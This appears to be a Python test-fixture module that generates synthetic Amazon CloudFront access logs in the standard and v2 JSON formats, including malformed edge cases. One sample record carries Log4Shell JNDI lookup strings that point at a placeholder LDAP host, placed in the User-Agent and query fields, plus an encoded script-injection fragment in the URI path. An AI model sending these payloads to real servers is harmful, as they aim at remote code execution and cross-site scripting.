"""Samples of CloudFront standard logs."""

import json
import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from urllib.parse import quote

from local.sample_logs import ACCOUNT, SampleObject, gzipped
from local.sample_logs.clients import USER_AGENTS, address, address_v6, path

_START = datetime(2026, 11, 20, 8, 0, tzinfo=UTC)
_DISTRIBUTION = "E2EXAMPLE9Z8Y7"
_FIELDS = (
    "date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer)"
    " cs(User-Agent) cs-uri-query cs(Cookie) x-edge-result-type x-edge-request-id x-host-header"
    " cs-protocol cs-bytes time-taken x-forwarded-for ssl-protocol ssl-cipher"
    " x-edge-response-result-type cs-protocol-version fle-status fle-encrypted-fields c-port"
    " time-to-first-byte x-edge-detailed-result-type sc-content-type sc-content-len sc-range-start"
    " sc-range-end"
)
_HEADER = f"#Version: 1.0\n#Fields: {_FIELDS}\n"
_CHOSEN = (
    "timestamp(ms) c-ip asn c-country sc-status cs-method cs-uri-stem cs(User-Agent) time-taken"
    " x-edge-request-id cache-behavior-path-pattern"
)
# What CloudFront leaves as it is: all but spaces, controls, what is not ASCII, and some characters.
_SAFE = "!$&()*+,-./:;=?@_"


def generate(records: int, rng: random.Random, seconds: int = 3_600) -> bytes:
    lines = ("\t".join(_record(rng, seconds).values()) + "\n" for _ in range(records))
    return "".join((_HEADER, *lines)).encode()


def objects(rng: random.Random) -> Iterator[SampleObject]:
    left = _record(rng) | {
        "sc-status": "000",
        "sc-bytes": "0",
        "c-ip": address_v6(rng),
        "x-edge-result-type": "Error",
        "x-edge-response-result-type": "Error",
        "x-edge-detailed-result-type": "ClientCommError",
        "x-forwarded-for": "198.51.100.7,%20unknown",
        "sc-content-type": "-",
        "sc-content-len": "-",
    }
    scan = _record(rng) | {
        "cs-uri-stem": "/%2522%253E%253Cscript%253E",
        "cs-uri-query": "q=%257Bjndi:ldap://192.0.2.66/x%257D",
        "cs(User-Agent)": "$%7Bjndi:ldap://192.0.2.66/a%7D%22",
        "sc-status": "403",
        "x-edge-result-type": "Error",
        "x-edge-detailed-result-type": "ClientGeoBlocked",
    }
    odd = "".join("\t".join(record.values()) + "\n" for record in (left, scan))
    legacy = generate(300, rng) + odd.encode()
    yield SampleObject("cloudfront", _key("cdn/", "08", rng, "gz"), gzipped(legacy), 302)
    folder = f"AWSLogs/{ACCOUNT}/CloudFront/shop/"
    lines = [_chosen(rng) for _ in range(60)]
    # JSON as v2 writes it, and in the middle a line that is cut.
    joined = "\n".join((*lines[:30], lines[0][:120], *lines[30:], ""))
    yield SampleObject(
        "cloudfront", _key(folder, "09", rng, "gz"), gzipped(joined.encode()), 61, rejected=1
    )


def _key(folder: str, hour: str, rng: random.Random, ending: str) -> str:
    return f"{folder}{_DISTRIBUTION}.2026-11-20-{hour}.{rng.getrandbits(32):08x}.{ending}"


def _chosen(rng: random.Random) -> str:
    """Write a record with some fields of v2 as JSON."""
    record = _record(rng) | {
        "timestamp(ms)": str(1_795_165_200_000 + rng.randrange(3_600_000)),
        "asn": rng.choice(("64496", "64500", "64511")),
        "c-country": rng.choice(("DE", "FR", "US")),
        "cache-behavior-path-pattern": "*",
    }
    return json.dumps({name: record[name] for name in _CHOSEN.split()}, separators=(",", ":"))


def _record(rng: random.Random, seconds: int = 3_600) -> dict[str, str]:
    moment = _START + timedelta(seconds=rng.randrange(seconds))
    stem, _, query = path(rng).partition("?")
    status = rng.choices(("200", "304", "404", "502"), (85, 8, 5, 2))[0]
    hit = rng.choices(("Hit", "Miss", "RefreshHit"), (80, 15, 5))[0]
    result = "Error" if status in ("404", "502") else hit
    taken = rng.randrange(1, 400)
    size = rng.randrange(200, 60_000)
    values = (
        f"{moment:%Y-%m-%d}",
        f"{moment:%H:%M:%S}",
        rng.choice(("FRA56-P4", "DUB56-P1", "LHR5-P2")),
        str(size + 400),
        address(rng) if rng.random() < 0.9 else address_v6(rng),
        rng.choices(("GET", "POST", "HEAD"), (90, 8, 2))[0],
        "d111111abcdef8.cloudfront.net",
        stem,
        status,
        "https://shop.example/" if rng.random() < 0.5 else "-",
        _encoded(rng.choice(USER_AGENTS)),
        _encoded(query) if query else "-",
        "-",
        result,
        f"{rng.getrandbits(192):048x}aB3x_-==",
        "cdn.shop.example",
        "https",
        str(rng.randrange(60, 900)),
        f"{taken / 1000:.3f}",
        "-",
        "TLSv1.3",
        "TLS_AES_128_GCM_SHA256",
        result,
        rng.choice(("HTTP/2.0", "HTTP/3.0", "HTTP/1.1")),
        "-",
        "-",
        str(rng.randrange(1024, 65_535)),
        f"{taken / 2000:.3f}",
        "OriginConnectError" if status == "502" else result,
        "image/png" if stem.endswith("png") else "text/html",
        str(size),
        "-",
        "-",
    )
    return dict(zip(_FIELDS.split(), values, strict=True))


def _encoded(text: str) -> str:
    return quote(text, safe=_SAFE)
